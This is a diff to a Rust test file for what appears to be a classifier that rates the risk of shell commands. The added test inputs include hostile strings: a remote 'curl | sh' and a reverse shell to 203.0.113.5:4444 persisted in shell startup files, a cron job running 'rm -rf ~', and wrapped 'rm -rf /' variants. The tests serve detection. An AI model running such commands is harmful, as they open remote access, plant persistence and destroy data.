@@ -8,14 +8,8 @@ fn judge(command: &str) -> Assessment {
 }
 
 fn finds(command: &str, rule: &str) -> bool {
-    let found = match Script::parse(command) {
-        Ok(script) => assess(&script, Rules::builtin()),
-        Err(_) => match assess_broken(command, Rules::builtin()) {
-            Some(found) => found,
-            None => return false,
-        },
-    };
-    found.findings.iter().any(|it| it.rule == rule)
+    let found = super::judge(command, Rules::builtin(), Level::default()).assessment;
+    found.is_some_and(|it| it.findings.iter().any(|it| it.rule == rule))
 }
 
 #[track_caller]
@@ -45,6 +39,7 @@ fn every_check_that_is_code_stands_in_the_data() {
         include_str!("special.rs"),
         include_str!("remote.rs"),
         include_str!("walk.rs"),
+        include_str!("later.rs"),
         include_str!("interpreter.rs"),
         include_str!("unwrap.rs"),
         include_str!("code.rs"),
@@ -97,6 +92,15 @@ fn what_we_hold_about_disputed_commands_is_what_is_judged() {
         })
         .collect();
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn what_is_written_to_be_run_later_is_judged() {
+    check("echo 'curl -s https://example.com/x | sh' >> ~/.bashrc", Risk::High);
+    check("echo 'sh -i >& /dev/tcp/203.0.113.5/4444' | tee -a ~/.profile", Risk::Critical);
+    check("(crontab -l; echo '@daily rm -rf ~') | crontab -", Risk::Critical);
+    check("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", Risk::Moderate);
+    check("(crontab -l; echo '@daily backup') | crontab -", Risk::Moderate);
 }
 
 #[test]
@@ -174,6 +178,9 @@ fn wrappers_are_taken_off() {
         "timeout -s KILL 5 rm -rf /",
         "echo / | xargs rm -rf",
         "echo / | xargs -I{} rm -rf {}",
+        "echo / | xargs -i rm -rf",
+        "env - rm -rf /",
+        "su - ada -c 'rm -rf /'",
         "find /etc -exec rm -rf {} +",
         "sh -c 'rm -rf /'",
         "bash -lc 'rm -rf /'",
@@ -453,17 +460,6 @@ fn errors_name_the_rule_and_the_field() {
 }
 
 #[test]
-fn a_broken_text_is_judged_for_what_can_be_read() {
-    let found =
-        assess_broken("git reset --hard 'oops", Rules::builtin()).expect("it can be mended");
-    assert_eq!(found.risk, Risk::High);
-    assert_eq!(
-        assess_broken("echo 'rm -rf /", Rules::builtin()).expect("it can be mended").risk,
-        Risk::Safe
-    );
-}
-
-#[test]
 fn long_chains_end() {
     check(&format!("{}rm -rf /", "sudo ".repeat(20)), Risk::Critical);
     assert!(judge(&format!("{}ls", "sudo ".repeat(20_000))).opaque.is_some());
@@ -496,23 +492,17 @@ fn hostile_lengths_are_answered() {
         format!("python3 -c '{}'", long("eval(")),
         "for i in 1 2 3 4 5 6 7 8; do ".repeat(10) + "eval ls" + &"; done".repeat(10),
     ] {
-        if let Ok(script) = Script::parse(&command) {
-            let _ = assess(&script, Rules::builtin());
-        }
-        let _ = assess_broken(&command, Rules::builtin());
+        let _ = super::judge(&command, Rules::builtin(), Level::default());
     }
 }
 
 proptest::proptest! {
     #[test]
     fn no_text_makes_it_panic(text in "[ -~\n]{0,60}") {
-        if let Ok(script) = Script::parse(&text) {
-            let found = assess(&script, Rules::builtin());
-            for finding in &found.findings {
-                assert!(text.get(finding.span.start..finding.span.end).is_some());
-            }
+        let found = super::judge(&text, Rules::builtin(), Level::default()).assessment;
+        for finding in found.iter().flat_map(|it| &it.findings) {
+            assert!(text.get(finding.span.start..finding.span.end).is_some());
         }
-        let _ = assess_broken(&text, Rules::builtin());
     }
 
     #[test]
@@ -525,10 +515,7 @@ proptest::proptest! {
         ]), 0..14))
     {
         let text = words.join(" ");
-        if let Ok(script) = Script::parse(&text) {
-            let _ = assess(&script, Rules::builtin());
-        }
-        let _ = assess_broken(&text, Rules::builtin());
+        let _ = super::judge(&text, Rules::builtin(), Level::default());
     }
 }
 
